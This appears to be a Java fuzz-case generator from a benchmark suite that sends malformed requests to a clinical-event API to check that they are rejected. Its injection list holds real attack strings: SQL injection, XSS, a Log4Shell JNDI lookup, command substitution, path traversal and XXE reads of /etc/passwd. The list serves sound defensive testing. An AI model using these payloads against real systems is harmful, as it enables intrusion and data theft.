package dev.chartbridge.bench;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import com.fasterxml.jackson.databind.node.ObjectNode;
import com.fasterxml.jackson.databind.node.TextNode;
import dev.chartbridge.core.json.Json;

import java.io.IOException;
import java.io.InputStream;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Iterator;
import java.util.List;
import java.util.Map;
import java.util.Random;

/**
 * Generates malformed requests from the published example events, deterministically (seeded): broken JSON, wrong
 * types, huge and deeply nested bodies, unicode edge cases, injection strings in typed fields, wrong tenants and
 * keys, wrong content types and bad headers. Every case is invalid by construction: free-text fields only ever
 * get values that must be refused (NUL, unpaired surrogates), never merely unusual ones.
 */
final class FuzzCases {
    static final List<String> TYPES = List.of("vitals", "note", "condition", "allergy", "medication-change",
            "follow-up-task", "consent");
    /** Fields where any of {@link #INJECTIONS} is invalid (a closed set, a pattern, a date or a number). */
    private static final List<String> TYPED_FIELDS = List.of("/schemaVersion", "/type", "/tenant", "/author/npi",
            "/author/role", "/occurredAt", "/targets/0");
    private static final List<String> INJECTIONS = List.of("' OR '1'='1", "1; DROP TABLE clinical_event;--",
            "<script>alert(1)</script>", "${jndi:ldap://x.example/a}", "{{7*7}}", "$(reboot)", "../../../../etc/passwd",
            "admin'--", "\" OR \"\"=\"", "{\"$where\": \"1\"}", "*)(uid=*))(|(uid=*", "1' AND pg_sleep(5)--",
            "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>", "%00", "%s%s%s%n", "ehr\r\nX-Injected: 1",
            "ehr'; --", "vitals\u0000", "VITALS", " vitals", "ehr ", "-1", "1e309");
    private static final List<String> UNICODE = List.of("\ud800", "a\udfffb", "\udbff\ud800", "\u0000", "x\u0000y",
            "\u202evitals", "vit\u0430ls", "e\u200bhr", "\ufeffvitals", "\uffff", "\ufffe", "１２３４５６７８９３",
            "\u0661\u0662\u0663\u0664\u0665\u0666\u0667\u0668\u0669\u0663", "\u00e9\u0301", "\u2028", "\ud83d\ude00");

    private final Random random = new Random(7);
    private final List<ObjectNode> bases = new ArrayList<>();

    FuzzCases() {
        for (String type : TYPES) {
            try (InputStream in = FuzzCases.class.getResourceAsStream("/examples/v1/" + type + ".json")) {
                ObjectNode e = (ObjectNode) Json.MAPPER.readTree(in);
                e.put("occurredAt", "2025-06-01T10:00:00Z");
                e.putArray("targets").add(Node.TARGET);
                bases.add(e);
            } catch (IOException e) {
                throw new UncheckedIOException(e);
            }
        }
    }

    List<FuzzCase> generate(int total) {
        List<FuzzCase> cases = new ArrayList<>();
        while (cases.size() < total) {
            int kind = random.nextInt(100);
            FuzzCase c;
            if (kind < 18) {
                c = brokenJson();
            } else if (kind < 40) {
                c = wrongType();
            } else if (kind < 50) {
                c = huge();
            } else if (kind < 65) {
                c = unicode();
            } else if (kind < 77) {
                c = injection();
            } else if (kind < 85) {
                c = wrongCredentials();
            } else if (kind < 93) {
                c = wrongContentType();
            } else {
                c = badHeader();
            }
            cases.add(c);
        }
        return cases;
    }

    private ObjectNode base() {
        return bases.get(random.nextInt(bases.size())).deepCopy();
    }

    private static byte[] bytes(JsonNode n) {
        try {
            return Json.MAPPER.writeValueAsBytes(n);
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    private FuzzCase brokenJson() {
        byte[] good = bytes(base());
        int k = random.nextInt(9);
        byte[] body;
        String what;
        switch (k) {
            case 0 -> {
                int cut = 1 + random.nextInt(good.length - 2);
                body = java.util.Arrays.copyOf(good, cut);
                what = "truncated at byte " + cut;
            }
            case 1 -> {
                body = good.clone();
                int at = random.nextInt(body.length);
                byte[] junk = "{}[]\":,\\x".getBytes(StandardCharsets.US_ASCII);
                body[at] = junk[random.nextInt(junk.length)];
                what = "byte " + at + " replaced";
                if (java.util.Arrays.equals(body, good)) {
                    body = java.util.Arrays.copyOf(good, good.length - 1);
                }
            }
            case 2 -> {
                body = (new String(good, StandardCharsets.UTF_8) + "}garbage").getBytes(StandardCharsets.UTF_8);
                what = "trailing garbage";
            }
            case 3 -> {
                body = new String(good, StandardCharsets.UTF_8).replaceFirst("\\{", "{\"type\":\"vitals\",")
                        .getBytes(StandardCharsets.UTF_8);
                what = "duplicate key type";
            }
            case 4 -> {
                String[] tiny = {"", " ", "null", "[]", "\"event\"", "42", "true", "{", "}", "[{}]", "{}"};
                String t = tiny[random.nextInt(tiny.length)];
                body = t.getBytes(StandardCharsets.UTF_8);
                what = "tiny body '" + t + "'";
            }
            case 5 -> {
                body = new String(good, StandardCharsets.UTF_8).replace("\"", "'").getBytes(StandardCharsets.UTF_8);
                what = "single quotes";
            }
            case 6 -> {
                body = ("{\"schemaVersion\":\"1\",\"type\":\"vitals\" /* comment */}").getBytes(StandardCharsets.UTF_8);
                what = "comment";
            }
            case 7 -> {
                body = new String(good, StandardCharsets.UTF_8).replaceFirst(",", ",,").getBytes(StandardCharsets.UTF_8);
                what = "double comma";
            }
            default -> {
                body = new byte[1 + random.nextInt(200)];
                random.nextBytes(body);
                what = "random bytes";
            }
        }
        if (parses(body)) {
            return brokenJson(); // the mutation happened to leave valid JSON: try another
        }
        return new FuzzCase("broken-json", what, body, FuzzCase.valid());
    }

    private static boolean parses(byte[] body) {
        try {
            return Json.MAPPER.readTree(body) != null;
        } catch (IOException e) {
            return false;
        }
    }

    /** Every pointer in the tree except the root. */
    private static List<String> pointers(JsonNode node, String at, List<String> out) {
        if (node.isObject()) {
            for (Iterator<Map.Entry<String, JsonNode>> it = node.fields(); it.hasNext(); ) {
                Map.Entry<String, JsonNode> e = it.next();
                String p = at + "/" + e.getKey();
                out.add(p);
                pointers(e.getValue(), p, out);
            }
        } else if (node.isArray()) {
            for (int i = 0; i < node.size(); i++) {
                String p = at + "/" + i;
                out.add(p);
                pointers(node.get(i), p, out);
            }
        }
        return out;
    }

    private static void set(ObjectNode root, String pointer, JsonNode value) {
        int slash = pointer.lastIndexOf('/');
        JsonNode parent = root.at(pointer.substring(0, slash));
        String last = pointer.substring(slash + 1);
        if (parent instanceof ObjectNode o) {
            o.set(last, value);
        } else if (parent instanceof ArrayNode a) {
            a.set(Integer.parseInt(last), value);
        }
    }

    private JsonNode otherType(JsonNode original) {
        JsonNodeFactory f = JsonNodeFactory.instance;
        List<JsonNode> options = new ArrayList<>();
        if (!original.isTextual()) {
            options.add(f.textNode(original.isNumber() ? original.asText() : "x"));
        }
        if (!original.isNumber()) {
            options.add(f.numberNode(random.nextInt(1000) - 500));
        }
        if (!original.isBoolean()) {
            options.add(f.booleanNode(random.nextBoolean()));
        }
        if (!original.isObject()) {
            options.add(f.objectNode().put("value", "x"));
        }
        if (!original.isArray()) {
            options.add(f.arrayNode().add(original.deepCopy()));
        }
        return options.get(random.nextInt(options.size()));
    }

    private FuzzCase wrongType() {
        ObjectNode e = base();
        List<String> ps = pointers(e, "", new ArrayList<>());
        String p = ps.get(random.nextInt(ps.size()));
        JsonNode value = otherType(e.at(p));
        set(e, p, value);
        return new FuzzCase("wrong-type", p + " := " + abbreviate(value.toString()), bytes(e), FuzzCase.valid());
    }

    private FuzzCase huge() {
        int k = random.nextInt(6);
        ObjectNode e = base();
        switch (k) {
            case 0 -> {
                int depth = 33 + random.nextInt(100_000);
                String body = "{\"payload\":" + "[".repeat(depth) + "]".repeat(depth) + "}";
                return new FuzzCase("huge", "nested arrays, depth " + depth, body.getBytes(StandardCharsets.UTF_8),
                        FuzzCase.valid());
            }
            case 1 -> {
                int depth = 33 + random.nextInt(20_000);
                String body = "{\"a\":".repeat(depth) + "1" + "}".repeat(depth);
                return new FuzzCase("huge", "nested objects, depth " + depth, body.getBytes(StandardCharsets.UTF_8),
                        FuzzCase.valid());
            }
            case 2 -> {
                int size = 1_048_577 + random.nextInt(3_000_000);
                e.put("type", "x".repeat(size));
                return new FuzzCase("huge", "body over 1 MiB (" + size + " chars in /type)", bytes(e), FuzzCase.valid());
            }
            case 3 -> {
                String p = TYPED_FIELDS.get(random.nextInt(TYPED_FIELDS.size()));
                int size = 100_000 + random.nextInt(800_000);
                set(e, p, TextNode.valueOf("9".repeat(size)));
                return new FuzzCase("huge", size + " chars in " + p, bytes(e), FuzzCase.valid());
            }
            case 4 -> {
                ArrayNode targets = e.putArray("targets");
                int n = 11 + random.nextInt(50_000);
                for (int i = 0; i < n; i++) {
                    targets.add(Node.TARGET);
                }
                return new FuzzCase("huge", n + " targets", bytes(e), FuzzCase.valid());
            }
            default -> {
                int n = 1000 + random.nextInt(30_000);
                ObjectNode extra = e.putObject("extra");
                for (int i = 0; i < n; i++) {
                    e.put("k" + i, i);
                }
                extra.put("n", n);
                return new FuzzCase("huge", n + " unknown top-level keys", bytes(e), FuzzCase.valid());
            }
        }
    }

    private FuzzCase unicode() {
        ObjectNode e = base();
        String u = UNICODE.get(random.nextInt(UNICODE.size()));
        int k = random.nextInt(5);
        if (k == 0) {
            // invalid UTF-8 byte sequences spliced into a string value
            byte[][] bad = {{(byte) 0xC0, (byte) 0xAF}, {(byte) 0xED, (byte) 0xA0, (byte) 0x80}, {(byte) 0xFF},
                    {(byte) 0xC3, (byte) 0x28}, {(byte) 0xF8, (byte) 0x88, (byte) 0x80, (byte) 0x80, (byte) 0x80},
                    {(byte) 0xE2, (byte) 0x82}};
            byte[] b = bad[random.nextInt(bad.length)];
            String s = new String(bytes(e), StandardCharsets.UTF_8);
            int at = s.indexOf("\"schemaVersion\":\"") + 17;
            byte[] head = s.substring(0, at).getBytes(StandardCharsets.UTF_8);
            byte[] tail = s.substring(at).getBytes(StandardCharsets.UTF_8);
            byte[] body = new byte[head.length + b.length + tail.length];
            System.arraycopy(head, 0, body, 0, head.length);
            System.arraycopy(b, 0, body, head.length, b.length);
            System.arraycopy(tail, 0, body, head.length + b.length, tail.length);
            return new FuzzCase("unicode", "invalid UTF-8 " + java.util.HexFormat.of().formatHex(b), body,
                    FuzzCase.valid());
        }
        if (k == 1) {
            // NUL or an unpaired surrogate in any string value, free text included: both must be refused
            List<String> ps = pointers(e, "", new ArrayList<>()).stream().filter(p -> e.at(p).isTextual()).toList();
            String p = ps.get(random.nextInt(ps.size()));
            String[] bad = {"\u0000", "\ud800", "\udfff", "\udbff"};
            String b = bad[random.nextInt(bad.length)];
            String v = e.at(p).textValue();
            int at = random.nextInt(v.length() + 1);
            set(e, p, TextNode.valueOf(v.substring(0, at) + b + v.substring(at)));
            return new FuzzCase("unicode", escape(b) + " inside " + p, bytes(e), FuzzCase.valid());
        }
        if (k == 2) {
            // an object key with an edge case (unknown key)
            String key = "type" + u;
            ((ObjectNode) e).put(key, "vitals");
            return new FuzzCase("unicode", "key 'type" + escape(u) + "'", bytes(e), FuzzCase.valid());
        }
        String p = TYPED_FIELDS.get(random.nextInt(TYPED_FIELDS.size()));
        String v = e.at(p).isTextual() ? e.at(p).textValue() : "";
        String mutated = k == 3 ? u : (v.isEmpty() ? u : v.substring(0, v.length() / 2) + u + v.substring(v.length() / 2));
        set(e, p, TextNode.valueOf(mutated));
        return new FuzzCase("unicode", p + " := '" + escape(mutated) + "'", bytes(e), FuzzCase.valid());
    }

    private FuzzCase injection() {
        ObjectNode e = base();
        String p = TYPED_FIELDS.get(random.nextInt(TYPED_FIELDS.size()));
        String s = INJECTIONS.get(random.nextInt(INJECTIONS.size()));
        set(e, p, TextNode.valueOf(s));
        return new FuzzCase("injection", p + " := '" + escape(s) + "'", bytes(e), FuzzCase.valid());
    }

    private FuzzCase wrongCredentials() {
        ObjectNode e = base();
        int k = random.nextInt(7);
        String[] auth = {null, "Bearer cbk_wrong_" + random.nextInt(1_000_000), "Basic YWRtaW46YWRtaW4=", "Bearer ",
                "Bearer " + "k".repeat(5000), "bearer" + Node.KEY, "Token " + Node.KEY};
        if (k < auth.length - 1 && random.nextInt(4) == 0) {
            // a valid key, but the body claims another tenant (that exists, or that does not)
            e.put("tenant", random.nextBoolean() ? "other" : "nobody-" + random.nextInt(1000));
            return new FuzzCase("wrong-tenant", "tenant " + e.get("tenant").textValue(), bytes(e), FuzzCase.valid());
        }
        return new FuzzCase("wrong-key", "Authorization: " + abbreviate(String.valueOf(auth[k])), bytes(e),
                FuzzCase.headers("application/json", auth[k], null));
    }

    private FuzzCase wrongContentType() {
        String[] types = {null, "text/plain", "application/xml", "application/x-www-form-urlencoded",
                "multipart/form-data; boundary=x", "application/jsonp", "application/json-seq", "text/json",
                "application/fhir+json", "application/jsonx", "*/*", "application/ json"};
        String t = types[random.nextInt(types.length)];
        return new FuzzCase("content-type", "Content-Type: " + t, bytes(base()),
                FuzzCase.headers(t, "Bearer " + Node.KEY, null));
    }

    private FuzzCase badHeader() {
        String[] keys = {"", " ", "k".repeat(201), "has space", "tab\tkey", "caf\u00e9", "\u00ff\u00fe"};
        String key = keys[random.nextInt(keys.length)];
        return new FuzzCase("header", "Idempotency-Key '" + escape(abbreviate(key)) + "'", bytes(base()),
                FuzzCase.headers("application/json", "Bearer " + Node.KEY, key));
    }

    static String escape(String s) {
        StringBuilder b = new StringBuilder();
        s.chars().forEach(c -> b.append(c < 0x20 || c > 0x7e ? String.format("\\u%04x", c) : String.valueOf((char) c)));
        return b.toString();
    }

    static String abbreviate(String s) {
        return s.length() > 60 ? s.substring(0, 60) + "...(" + s.length() + " chars)" : s;
    }
}
